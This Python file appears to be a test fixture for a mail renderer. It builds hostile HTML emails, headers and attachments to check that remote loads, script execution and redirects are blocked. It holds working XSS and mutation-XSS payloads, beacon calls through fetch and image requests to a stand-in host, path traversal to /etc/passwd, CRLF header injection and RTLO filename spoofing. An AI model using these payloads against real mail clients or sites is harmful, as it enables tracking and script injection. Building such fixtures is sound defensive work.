"""Mail that was written to harm whoever looks at it. ``HOME`` stands for the address of who wrote it."""

from __future__ import annotations

HOME = "http://HOME"

SCRIPT = f"top.document.title='ran'; alert('ran'); fetch('{HOME}/fetch'); new Image().src='{HOME}/image'"

LOADING = (
    f"<img src='{HOME}/img'><img srcset='{HOME}/srcset 1x'><img src='//HOME/scheme'>"
    f"<picture><source srcset='{HOME}/source'><img src=x></picture>"
    f"<video poster='{HOME}/poster' src='{HOME}/video' autoplay></video>"
    f"<audio src='{HOME}/audio' autoplay></audio>"
    f"<link rel=stylesheet href='{HOME}/css'><link rel=icon href='{HOME}/icon'>"
    f"<link rel=prefetch href='{HOME}/prefetch'><link rel=preload as=image href='{HOME}/preload'>"
    f"<style>@import '{HOME}/import'; body {{ background: url({HOME}/background) }}"
    f"@font-face {{ font-family: f; src: url({HOME}/font) }} p {{ font-family: f }}</style>"
    f"<p style=\"background:url('{HOME}/style')\">a</p>"
    f"<p style='background:\\75\\72\\6c({HOME}/escape)'>b</p>"
    f"<p style='background-image:image-set(\"{HOME}/set\" 1x);list-style:url({HOME}/list)'>"
    f"<p style='cursor:url({HOME}/cursor),auto'>"
    f"<table background='{HOME}/table'><tr><td background='{HOME}/td'>c</td></tr></table>"
    f"<body background='{HOME}/body'><input type=image src='{HOME}/input'>"
    f"<object data='{HOME}/object'></object><embed src='{HOME}/embed'><iframe src='{HOME}/iframe'></iframe>"
    f"<svg><image href='{HOME}/svg'/><use href='{HOME}/use#a'/></svg>"
    f"<frameset><frame src='{HOME}/frame'></frameset>"
)
"""What a browser loads without being asked, as far as a policy can forbid that."""

CONNECTING = f"<link rel=preconnect href='{HOME}'><link rel=dns-prefetch href='//home.invalid'>"
"""What it connects to; no policy forbids that."""

RUNNING = (
    f"<script>{SCRIPT}</script><script src='{HOME}/script'></script><script type=module>{SCRIPT}</script>"
    f'<img src=x onerror="{SCRIPT}"><body onload="{SCRIPT}">'
    f'<svg onload="{SCRIPT}"><svg><script>{SCRIPT}</script></svg>'
    f'<details open ontoggle="{SCRIPT}">a</details><input autofocus onfocus="{SCRIPT}">'
    f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe><iframe src="javascript:{SCRIPT}"></iframe>'
    f'<object data="data:text/html,<script>{SCRIPT}</script>"></object>'
    '<embed src="data:text/html,<script>x</script>">'
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={SCRIPT}&gt;">'
    f"<noscript><p title=\"</noscript><img src=x onerror='{SCRIPT}'>\"></noscript>"
    f'<template><img src=x onerror="{SCRIPT}"></template><marquee onstart="{SCRIPT}">b</marquee>'
    f'<a href="javascript:{SCRIPT}">c</a><a href="data:text/html,<script>{SCRIPT}</script>">d</a>'
)

LEADING_AWAY = (
    f"<meta http-equiv=refresh content='0;url={HOME}/refresh'>"
    f"<meta http-equiv=refresh content='0;{HOME}/other'>"
    f"<base href='{HOME}/' target=_top><form action='{HOME}/form' method=post id=f><input name=a>"
    "<button autofocus>Log in</button></form>"
    f"<a href='{HOME}/link' ping='{HOME}/ping' target=_top>read on</a>"
    f"<a href='relative'>more</a><map name=m><area href='{HOME}/area' coords='0,0,99,99'></map>"
)

BROKEN = (
    "<p title='never ended <b", "<!-- never ended <p>hidden", "<script>never ended", "</body></html>after<p>",
    "<table><tr><td><table><b><i><p></table></b>x", "<div>" * 10_000 + "deep",
    "<b><i><u>" * 2000 + "<p>x" * 2000, "<plaintext>all", "<xmp><p>", "<select><option><img src=x>",
    "\0<\0p>\0", "<p\0 a=b>x", "&#0;&#xD800;&#x110000;&;",
)  # fmt: skip

DOCUMENTS = (LOADING + CONNECTING, RUNNING, LEADING_AWAY, *BROKEN)

EVIL_SUBJECTS = (
    f"<script>{SCRIPT}</script>", f'"><img src=x onerror="{SCRIPT}">', "{{ 7*7 }}{% raw %}",
    "\u202egnp.exe\u2066", "a\0\x1b[2J\x07\x9b", "", "x" * 100_000,
)  # fmt: skip

EVIL_NAMES = (
    "../../../etc/passwd", "a\r\nSet-Cookie: a=b", 'x".html', "<img src=x onerror=alert(1)>.html", "con",
    "\u202egnp.exe", "a/b\\c", "n" * 100_000,
)  # fmt: skip


def html_mail(document: str, home: str, subject: str = "hostile") -> bytes:
    """A message of HTML alone."""
    head = f"From: evil@example.net\nSubject: {subject}\nContent-Type: text/html; charset=utf-8\n\n"
    return (head + document).replace("HOME", home).encode("utf-8", "surrogateescape")


def evil_header(subject: str, home: str) -> bytes:
    """A message with a subject and a sender that are hostile, encoded so that all of it arrives."""
    encoded = subject.replace("HOME", home).encode().hex(" ").upper().split()
    words = "".join(f"={byte}" for byte in encoded)
    return f"From: =?utf-8?Q?{words}?= <a@b>\nSubject: =?utf-8?Q?{words}?=\n\nbody\n".encode()


def evil_attachments() -> bytes:
    """A message with attachments under hostile names, of types that a browser would show."""
    parts = [
        b"--b\nContent-Type: %s\nContent-Disposition: attachment; filename*=utf-8''%s\n\n"
        b"<script>alert(1)</script>\n" % (kind, "".join(f"%{byte:02X}" for byte in name.encode()).encode())
        for name in EVIL_NAMES
        for kind in (b"text/html", b"image/svg+xml")
    ]
    return b"Subject: attached\nContent-Type: multipart/mixed; boundary=b\n\n" + b"".join(parts) + b"--b--\n"


def many_parts(count: int) -> bytes:
    """A message of so many parts."""
    part = b"--b\nContent-Type: application/pdf; name=a.pdf\n\nx\n"
    return b"Subject: many parts\nContent-Type: multipart/mixed; boundary=b\n\n" + part * count + b"--b--\n"
